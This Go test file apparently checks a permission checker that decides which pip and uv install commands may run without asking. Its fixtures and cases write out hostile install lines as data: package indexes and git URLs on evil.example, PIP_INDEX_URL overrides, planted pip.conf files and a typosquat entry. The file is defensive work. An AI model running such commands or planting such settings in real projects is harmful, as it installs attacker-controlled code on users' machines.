// SPDX-License-Identifier: Apache-2.0

package verdict

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"memo.dev/projects/domain/permissions/projectfiles"
)

// pipFiles is a Python project as pip install lines meet it: requirement
// files that name others, a sub-project, dependency groups, and files
// whose lines Memo must not pass.
var pipFiles = map[string]string{
	"pyproject.toml": "[project]\nname = \"x\"\ndependencies = [\"requests>=2\"]\n[project.optional-dependencies]\ndev = [\"pytest\"]\n" +
		"[dependency-groups]\ndev = [\"ruff==0.5\", {include-group = \"test\"}]\ntest = [\"pytest>=8\", \"coverage[toml]; python_version >= '3.9'\"]\n" +
		"evil = [\"x @ https://evil.example/x.zip\"]\nnested = [{include-group = \"evil\"}]\n",
	"requirements.txt":            "# runtime\nrequests==2.32.3 \\\n    --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6\nidna>=3; python_version >= \"3.8\"\n-r requirements/base.txt\n",
	"requirements/base.txt":       "attrs\n-c ../constraints.txt\n",
	"constraints.txt":             "attrs<24\n",
	"tests/requirements.txt":      "-r ../requirements.txt\npytest>=8\n-e ./sub\n",
	"test-requirements.txt":       "pytest\n",
	"sub/pyproject.toml":          "[project]\nname = \"sub\"\n",
	"sub/src/x.py":                "",
	"nosetup/x.py":                "",
	"ci/reqs.txt":                 "pytest\n",
	"bad/url.txt":                 "pytest\nblack @ git+https://github.com/psf/black\n",
	"bad/index.txt":               "--index-url https://evil.example/simple\npytest\n",
	"bad/extra.txt":               "--extra-index-url https://evil.example/simple\n",
	"bad/links.txt":               "-f ./wheels\n",
	"bad/host.txt":                "--trusted-host evil.example\n",
	"bad/outside.txt":             "-r ../../outside.txt\n",
	"bad/editable.txt":            "-e ../..\n",
	"bad/git.txt":                 "-e git+https://github.com/psf/black#egg=black\n",
	"bad/env.txt":                 "${PKG}\n",
	"bad/settings.txt":            "x --config-settings=a=b\n",
	"bad/nested.txt":              "-r url.txt\n",
	"bad/deep.txt":                "-r missing.txt\n",
	"bad/enosetup.txt":            "-e ./nosetup\n",
	"urlbuild/pyproject.toml":     "[build-system]\nrequires = [\"setuptools @ git+https://evil.example/setuptools\"]\n",
	"urldep/pyproject.toml":       "[project]\nname = \"d\"\ndependencies = [\"dill @ git+https://github.com/uqfoundation/dill@2308ffb; python_version>='3.15'\"]\n[project.optional-dependencies]\nx = [\"y @ https://evil.example/y.zip\"]\n",
	"dist/x-1.0-py3-none-any.whl": "",
}

// Under rules spelling pip install, the lines that install what the
// project declares approve; each hostile neighbour asks, naming why.
func TestPipInstallsWhatTheProjectDeclares(t *testing.T) {
	rules := []string{"pip install", "pip3 install", "python -m pip install", "python3 -m pip install", "py -m pip install", "uv pip install"}
	for _, tc := range []struct {
		rule, line string
		want       string // "" approves; else a part of the reason
	}{
		{"pip install", "pip install -r requirements.txt", ""},
		{"pip install", "pip install -r tests/requirements.txt -c constraints.txt", ""},
		{"pip install", "pip install -r test-requirements.txt", ""},
		{"pip install", "pip install -e .", ""},
		{"pip install", "pip install .", ""},
		{"pip install", `pip install -e ".[dev]"`, ""},
		{"pip install", "pip install .[test]", ""},
		{"pip install", "pip install -e ./sub", ""},
		{"pip install", "pip install --group dev", ""},
		{"pip install", "pip install . --group test", ""},
		{"pip install", "pip install -U --upgrade-strategy=eager --no-deps -q --no-cache-dir --disable-pip-version-check -r requirements.txt", ""},
		{"pip install", "pip install --user --break-system-packages --no-build-isolation --prefer-binary --only-binary=:all: --require-hashes --pre --no-input --progress-bar=off --root-user-action=ignore -e .", ""},
		{"pip install", "pip install --target build/site -r requirements.txt", ""},
		{"pip install", "pip install --prefix ./.local .", ""},
		{"pip3 install", "pip3 install -r requirements.txt", ""},
		{"python -m pip install", "python -m pip install -r requirements.txt", ""},
		{"python3 -m pip install", "python3 -m pip install -e . --group dev", ""},
		{"py -m pip install", "py -m pip install -e .", ""},
		{"uv pip install", "uv pip install -r requirements.txt", ""},
		{"uv pip install", "uv pip install --system --compile-bytecode -e .", ""},
		{"uv pip install", "uv pip install -r pyproject.toml --extra dev", ""},
		{"uv pip install", "uv pip install . --group test --all-extras", ""},
		// Packages named on the line, and what fetches from elsewhere.
		{"pip install", "pip install black", "adds a package"},
		{"pip install", "pip install tox==4.53.1", "adds a package"},
		{"pip install", "pip install FAQtory", "adds a package"},
		{"pip install", "pip install src", "adds a package"},
		{"pip install", "pip install git+https://github.com/psf/black", "URL"},
		{"pip install", "pip install ./dist/x-1.0-py3-none-any.whl", "wheel"},
		{"pip install", "pip install -r https://evil.example/r.txt", "network"},
		{"pip install", "pip install -i https://evil.example/simple -r requirements.txt", "another place"},
		{"pip install", "pip install --index-url=https://evil.example/simple .", "another place"},
		{"pip install", "pip install --extra-index-url https://evil.example/simple .", "another place"},
		{"pip install", "pip install -f ./wheels .", "another place"},
		{"pip install", "pip install --find-links=./wheels .", "another place"},
		{"pip install", "pip install --trusted-host evil.example .", "another place"},
		{"pip install", "pip install -C cmake.define.X=curl .", "build backend"},
		{"pip install", "pip install --config-settings editable_mode=compat -e .", "build backend"},
		{"pip install", "pip install --target /tmp/x .", "outside the project"},
		{"pip install", "pip install --prefix ../x .", "outside the project"},
		{"pip install", "pip install -e ../outside", "outside the project"},
		{"pip install", "pip install -e ./nosetup", "no Python project folder"},
		{"pip install", "pip install ./ci", "no Python project folder"},
		{"pip install", "pip install -r ci/reqs.txt", "not among the requirement files"},
		{"pip install", "pip install -r missing.txt", "does not exist"},
		{"pip install", "pip install -r bad/url.txt", "bad/url.txt, line 2"},
		{"pip install", "pip install -r bad/index.txt", "bad/index.txt, line 1"},
		{"pip install", "pip install -r bad/extra.txt", "--extra-index-url"},
		{"pip install", "pip install -r bad/links.txt", "-f"},
		{"pip install", "pip install -r bad/host.txt", "--trusted-host"},
		{"pip install", "pip install -r bad/outside.txt", "outside the project"},
		{"pip install", "pip install -r bad/editable.txt", "outside the project"},
		{"pip install", "pip install -r bad/git.txt", "URL"},
		{"pip install", "pip install -r bad/env.txt", "`$`"},
		{"pip install", "pip install -r bad/settings.txt", "--config-settings"},
		{"pip install", "pip install -r bad/nested.txt", "bad/url.txt, line 2"},
		{"pip install", "pip install -r bad/deep.txt", "does not exist"},
		{"pip install", "pip install -r bad/enosetup.txt", "no Python project folder"},
		{"pip install", "pip install -e ./urlbuild", "git+https://evil.example"},
		// --no-deps installs none of the declared dependencies, but still
		// the build backend's requirements (--no-build-isolation leaves
		// those out too).
		{"pip install", "pip install ./urldep --no-deps", ""},
		{"pip install", "pip install -e ./urldep[x] --no-deps", ""},
		{"uv pip install", "uv pip install --no-deps ./urldep", ""},
		{"pip install", "pip install ./urldep", "git+https://github.com/uqfoundation/dill"},
		{"pip install", "pip install ./urldep --no-build-isolation", "git+https://github.com/uqfoundation/dill"},
		{"pip install", "pip install -e ./urlbuild --no-deps", "git+https://evil.example"},
		{"pip install", "pip install -e ./urlbuild --no-deps --no-build-isolation", ""},
		{"pip install", "pip install --no-deps -r bad/url.txt", "bad/url.txt, line 2"},
		{"pip install", "pip install -c ../x.txt .", "outside the project"},
		{"pip install", "pip install --group evil", "https://evil.example"},
		{"pip install", "pip install --group nested", "https://evil.example"},
		{"pip install", "pip install --group nosuch", "no dependency group"},
		{"pip install", "pip install --group ../x/pyproject.toml:dev", "outside the project"},
		{"pip install", "pip install --python /usr/bin/python3 .", "runs another program"},
		{"pip install", "pip uninstall -y x", "no allowed rule"},
		{"pip install", "pip download x", "no allowed rule"},
		{"pip install", "PIP_INDEX_URL=https://evil.example/simple pip install .", "PIP_INDEX_URL"},
		{"pip install", "PIP_CONFIG_FILE=pip.conf pip install .", "PIP_CONFIG_FILE"},
		{"uv pip install", "uv pip install black", "adds a package"},
		{"uv pip install", "uv pip install --index-url https://evil.example/simple .", "index-url"},
		{"uv pip install", "UV_INDEX_URL=https://evil.example/simple uv pip install .", "UV_INDEX_URL"},
		{"uv pip install", "uv pip install -r bad/index.txt", "bad/index.txt, line 1"},
	} {
		p := makeProject(t, tc.rule, pipFiles)
		v := NewChecker(rules).CheckIn(tc.line, p)
		switch {
		case tc.want == "" && !v.Approved:
			t.Errorf("%q under %q: asks (%s), want it approved", tc.line, tc.rule, v.Reason)
		case tc.want != "" && v.Approved:
			t.Errorf("%q under %q: approved, want it to ask (%s)", tc.line, tc.rule, tc.want)
		case tc.want != "" && !strings.Contains(v.Reason.String(), tc.want):
			t.Errorf("%q under %q: asks (%s), want a reason naming %q", tc.line, tc.rule, v.Reason, tc.want)
		}
	}
}

// The requirement files a rule's lines reach are pinned with its trust: a
// change to one asks until trusted again; a file the usual names do not
// cover passes once the rule names it.
func TestPipRequirementFilesArePinned(t *testing.T) {
	p := makeProject(t, "pip install", pipFiles)
	ch := NewChecker([]string{"pip install"})
	if v := ch.CheckIn("pip install -r requirements.txt", p); !v.Approved {
		t.Fatalf("asks before the change: %s", v.Reason)
	}
	for _, f := range []string{"requirements/base.txt", "constraints.txt"} {
		q := makeProject(t, "pip install", pipFiles)
		if err := os.WriteFile(filepath.Join(q.Root, f), []byte("attrs\nevil-typosquat\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		q.Cache.Sync()
		if v := ch.CheckIn("pip install -r requirements.txt", q); v.Approved || !strings.Contains(v.Reason.String(), f) {
			t.Errorf("%s changed since trust: approved=%v (%s), want it to ask naming the file", f, v.Approved, v.Reason)
		}
	}
	q := makeProject(t, "pip install -r ci/reqs.txt", pipFiles)
	if v := NewChecker([]string{"pip install -r ci/reqs.txt"}).CheckIn("pip install -r ci/reqs.txt -q", q); !v.Approved {
		t.Errorf("a file the rule names: asks (%s)", v.Reason)
	}
	untrusted := NewProject(q.Root, "", projectfiles.OSGitFS(t.TempDir()), nil)
	if v := ch.CheckIn("pip install -r requirements.txt", untrusted); v.Approved {
		t.Errorf("an untrusted project approves a requirement file")
	}
}

// A pip configuration anywhere in the project's first levels (a venv the
// repository ships: pip reads $VIRTUAL_ENV/pip.conf) makes every pip
// install ask; for uv, its own configuration naming an index does.
func TestPipConfigsInTheProjectAsk(t *testing.T) {
	for _, tc := range []struct {
		file, text, line string
	}{
		{"pip.conf", "[global]\nindex-url = https://evil.example/simple\n", "pip install -e ."},
		{".venv/pip.conf", "[global]\nindex-url = https://evil.example/simple\n", "pip install -e ."},
		{"venv/pip.ini", "[install]\nfind-links = ./x\n", "python -m pip install -r requirements.txt"},
		{".tox/py312/pip.conf", "[global]\n", "pip install ."},
		{"x/y/PIP.CONF", "[global]\n", "uv pip install ."},
		{"uv.toml", "index-url = \"https://evil.example/simple\"\n", "uv pip install -e ."},
		{"a/b/c/d/.venv/pip.conf", "[global]\n", "a/b/c/d/.venv/bin/pip install -e ."},
		{"a/b/c/d/.venv/pip.conf", "[global]\n", "a/b/c/d/.venv/bin/python -m pip install -e ."},
	} {
		files := map[string]string{}
		for k, v := range pipFiles {
			files[k] = v
		}
		files[tc.file] = tc.text
		rule := strings.Join(strings.Fields(tc.line)[:2], " ")
		if strings.Contains(tc.line, "-m pip") {
			rule = strings.Join(strings.Fields(tc.line)[:4], " ")
		} else if strings.HasPrefix(tc.line, "python") || strings.HasPrefix(tc.line, "uv") {
			rule = strings.Join(strings.Fields(tc.line)[:3], " ")
			if strings.HasPrefix(tc.line, "python") {
				rule = "python -m pip install"
			}
		}
		p := makeProject(t, rule, files)
		v := NewChecker([]string{rule}).CheckIn(tc.line, p)
		if v.Approved || !strings.Contains(strings.ToLower(v.Reason.String()), strings.ToLower(filepath.Base(tc.file))) {
			t.Errorf("%s in the project: %q approved=%v (%s), want it to ask naming the file", tc.file, tc.line, v.Approved, v.Reason)
		}
	}
}

// Unquoted, .[test] is a bash pattern: with no hidden name it matches,
// pip is given it as written; with one (.t), bash hands pip that name,
// which is a package's.
func TestPipExtrasUnquoted(t *testing.T) {
	files := map[string]string{".t": ""}
	for k, v := range pipFiles {
		files[k] = v
	}
	p := makeProject(t, "pip install", files)
	if v := NewChecker([]string{"pip install"}).CheckIn("pip install .[test]", p); v.Approved {
		t.Errorf("pip install .[test] with .t in the project: approved, want it to ask")
	}
	if v := NewChecker([]string{"pip install"}).CheckIn("pip install .[!x]", p); v.Approved {
		t.Errorf("pip install .[!x]: approved, want it to ask")
	}
}

// Rules naming packages, URLs or other pip commands stay refused; bare pip
// too.
func TestPipRulesRefused(t *testing.T) {
	for rule, want := range map[string]string{
		"pip":                       "bare",
		"pip3":                      "bare",
		"pip install black":         "adds a package",
		"pip install tox==4.53.1":   "adds a package",
		"pip install FAQtory":       "adds a package",
		"pip install git+https://x": "URL",
		"pip install ./dist/x.whl":  "wheel",
		"pip uninstall":             "outside the project",
		"pip download":              "adds a package",
		"pip install -i https://x":  "another place",
		"python -m pip install x":   "adds a package",
		"uv pip install x":          "adds a package",
		"uv pip uninstall":          "outside the project",
	} {
		if r := AcceptRule(rule); !strings.Contains(r.String(), want) {
			t.Errorf("rule %q: %q, want a refusal naming %q", rule, r, want)
		}
	}
	for _, rule := range []string{"pip install", "pip install -e .", "pip3 install -r requirements.txt", "python -m pip install .", "py -m pip install", "uv pip install --system ."} {
		if r := AcceptRule(rule); !r.IsZero() {
			t.Errorf("rule %q refused: %s", rule, r)
		}
	}
}

// A pip install rule's label says where it installs: the active Python
// environment, outside the project unless a project venv is active.
func TestPipInstallLabel(t *testing.T) {
	for _, rule := range []string{"pip install", "pip3 install -e .", "python -m pip install", "uv pip install --system"} {
		var all []string
		for _, l := range RuleLabels(rule, nil) {
			all = append(all, l.String())
		}
		if got := strings.Join(all, "; "); !strings.Contains(got, "active Python environment") || !strings.Contains(got, "outside the project") {
			t.Errorf("rule %q: labels %q, want them to say it installs into the active Python environment", rule, got)
		}
	}
	p := makeProject(t, "pip install", pipFiles)
	defs, _ := p.Definitions("pip install")
	var all []string
	for _, l := range RuleLabels("pip install", projectfiles.CompareDefinitions(defs, defs)) {
		all = append(all, l.String())
	}
	if got := strings.Join(all, "; "); !strings.Contains(got, "pins the requirement files") || !strings.Contains(got, "requirements.txt") || strings.Contains(got, "own code (requirements") {
		t.Errorf("labels in a project: %q, want the pinned requirement files named, not as code", got)
	}
	for _, l := range RuleLabels("uv sync", nil) {
		if strings.Contains(l.String(), "active Python environment") {
			t.Errorf("uv sync labelled %q", l)
		}
	}
}
